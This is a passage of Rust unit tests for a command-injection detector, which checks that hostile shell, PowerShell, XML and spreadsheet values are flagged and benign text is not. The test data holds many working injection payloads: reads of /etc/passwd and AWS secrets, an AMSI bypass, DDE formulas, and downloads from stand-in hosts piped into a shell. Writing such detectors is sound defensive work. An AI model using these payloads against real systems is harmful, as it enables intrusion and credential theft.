        "x\nc'a't /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// cmd ends a command's name at a comma; an unset variable before a path where a command is
/// expected expands to nothing.
#[test]
fn comma_after_a_name_and_unset_variable_before_a_path() {
    for v in [
        "& whoami,",
        "| whoami,",
        ";$u/bin$u/i${u}d",
        "|$x/usr/bin/id",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "Please confirm venue & date, time and guests",
        "books, music & more, all in one place",
        "Sales & Marketing, Inc.",
        "Tom & Jerry, Inc",
        "price; $amount/month",
        "pay; $x/mo",
        "$u/bin",
        "a,b",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// PowerShell reflecting on a type: `[Ref].Assembly.GetType(…)` opening a statement.
#[test]
fn powershell_type_reflection() {
    for v in [
        "; [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils')",
        "x|[System.Reflection.Assembly].GetMethod('Load')",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "See [Ref].",
        "[Ref]. Assembly instructions follow",
        "see the note [1].Foo bar",
        "[a].map(f)",
        "a[Ref].Assembly.GetType(x)",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// TeX's inline math opening a value (`$x^2 < y$ …`) is notation: its `$` signs pair up
/// around formulas, and no command line follows an unset variable.
#[test]
fn tex_inline_math_is_no_command_line() {
    for v in [
        "$x^2 < y$ for all $x \\in (0,1)$",
        "$a < b$ and $c$",
        "$f(x) > 0$.",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "$SHELL -c id",
        "$a -nlvp 4444",
        "$u cat /etc/passwd",
        "$x < /etc/passwd",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

/// A usage line with a manual's angle-bracketed placeholders is documentation: as shell the
/// brackets would redirect from and to files named like the placeholders.
#[test]
fn usage_line_with_angle_placeholders_is_quiet() {
    for v in [
        "ssh <user>@<host> -p 2222",
        "ping -c 4 <host>",
        "curl --user <name>:<password> https://api.example.com",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "ssh user@host -p 2222 ; id",
        "cat </etc/passwd",
        "cat<flag.txt",
        "; cat <host> /etc/passwd",
        "ping -c 4 <host>;id",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

/// bash's ANSI-C quotes splice a name as plain quotes do, and cmd reads `,`, `;` and `=`
/// as blanks before a command.
#[test]
fn ansi_c_quotes_and_cmd_delimiters_before_a_command() {
    for v in [
        ";$'i'$'d'",
        ";w$'h'oami",
        "| $'c'at /etc/passwd",
        "&,;=whoami",
        "&=whoami",
        "x&,;=ping -n 5 127.0.0.1",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "costs $'5' more",
        "$'hello'",
        "flags &= mask",
        "a=1&b=2",
        "x |= id_mask",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// An XML document's text nodes are values of their own, decoded (`&#x0a;` is a line
/// break); formatting markup around a command is documentation.
#[test]
fn xml_text_nodes_are_judged_decoded() {
    for v in [
        "<ip>8.8.8.8&#x0a;id</ip>",
        "<host><![CDATA[x;cat /etc/passwd]]></host>",
        ";i${!}d",
        "x; . {whoami}",
        "x; . { Invoke-WebRequest http://evil.example/a.ps1 }",
        "x; gc env:AWS_SECRET_ACCESS_KEY",
        "x; type env:PATH",
        "a | dir HKLM:\\SOFTWARE",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "<ip>8.8.8.8</ip>",
        "<code>ls -la</code>",
        "<name>Tom &amp; Jerry</name>",
        "x; . {name}",
        ". {whoami}",
        "set env: production",
        "note: the env: prefix",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

/// A User-Agent lists runtimes with their versions in its comment (`PHP 8.3.13`) and
/// platforms glued after a product token's `;` (`SendGrid/6.11.0;java`).
#[test]
fn user_agent_versions_and_listed_platforms() {
    for v in [
        "Composer/2.8.2 (Linux; 6.1.0-27-amd64; PHP 8.3.13; cURL 7.88.1; Platform-PHP 8.3.13; CI)",
        "Composer/2.8.2 (Linux; 6.1.0-27-amd64; PHP 8.3.13)",
        "MyApp/1.4 (iOS; Python 3.11; node 20.1.0-beta)",
        "SendGrid/6.11.0;java",
        "okhttp/4.12.0;python",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "Mozilla/5.0 (X11; Linux; sleep 5)",
        "Mozilla/5.0 (X11; Linux; php -r phpinfo();)",
        "Foo/1.0;id",
        "report/2024;curl evil.tld|sh",
        "SendGrid/6.11.0;java -jar /tmp/x.jar",
        "SendGrid/6.11.0;whoami",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A spreadsheet formula in a `;`-separating locale is no command list; DDE is.
#[test]
fn spreadsheet_formulas_with_semicolons() {
    for v in [
        "=VLOOKUP(A2;Sheet2!A:C;3;FALSE)",
        "=WENN(E5=\"\";\"-\";E5*1,19)",
        "=SUMMEWENN('Jan 24'!B:B;\"Miete\";'Jan 24'!C:C)",
        "=IF(A1>0;TRUE;FALSE)",
        "=A1|'note'",
        "- pipe | 'quoted' ! here",
        "=ADDRESS(1;2)",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\"",
        "+cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"A0\")",
        "=IF(A1;id;1)\n;id",
        "=X(1);id",
        "=IF(1;$(id);2)",
        "=SUM(1;`id`)",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// PowerShell hands a script block to `Invoke-Command`, `ForEach-Object` and `Where-Object`
/// (and their aliases) and runs it; the name ends at `{`.
#[test]
fn powershell_script_block_invokers() {
    for v in [
        ";icm{whoami}",
        "x|%{whoami}",
        "test'|%{iex 'calc'}|'",
        "x|foreach{whoami}",
        "x | ForEach-Object { id }",
        "x;%{%{%{whoami}}}",
        "1|?{whoami}",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "x|%{$_.Name}",
        "items|foreach{$_.price * 2}",
        "{{ foreach{x} }}",
        "where {you are}",
        "50%{discount}",
        "a; where {x} is the set",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// An unset variable opening the command word, then a quoted or escaped piece of the name:
/// sh splices `$u'who'ami` into `whoami`.
#[test]
fn unset_variable_then_quoted_name_piece() {
    for v in [
        ";$u'who'ami",
        ";$u\"who\"ami",
        ";$u\\whoami",
        ";${u}'who'ami",
        "|$x'cat' /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "$u'who'ami",
        "price: $x'5'",
        "a; $name's book",
        "Total; $amount\"usd\"",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A command name assembled from a variable the value assigned earlier and pieces glued to it.
#[test]
fn name_assembled_from_an_assigned_variable() {
    for v in [
        ";u=who;$u'ami'",
        ";u=who;${u}ami",
        "x;a=wh;$a\"oami\"",
        "x; u=who; $u\\ami",
        "x|c=ca;${c}t /etc/passwd",
        "u=who;$u'ami'",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "price=5; $priceUSD",
        "x;$u'ami'",
        "total=5; ${total}USD is due",
        "a=1;$1abc",
    ] {
        assert!(!hit(v), "{v}");
    }
}
